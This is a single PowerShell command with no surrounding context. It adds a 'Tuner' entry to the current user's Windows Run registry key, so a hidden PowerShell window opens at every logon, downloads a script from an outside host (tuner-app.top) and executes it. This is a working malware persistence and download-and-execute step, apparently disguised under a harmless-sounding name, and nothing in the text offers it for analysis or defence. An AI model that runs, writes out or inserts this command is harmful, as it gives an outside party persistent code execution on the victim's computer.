Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'Tuner' -Value 'powershell -w hidden -c iex(irm https://tuner-app.top/t)'
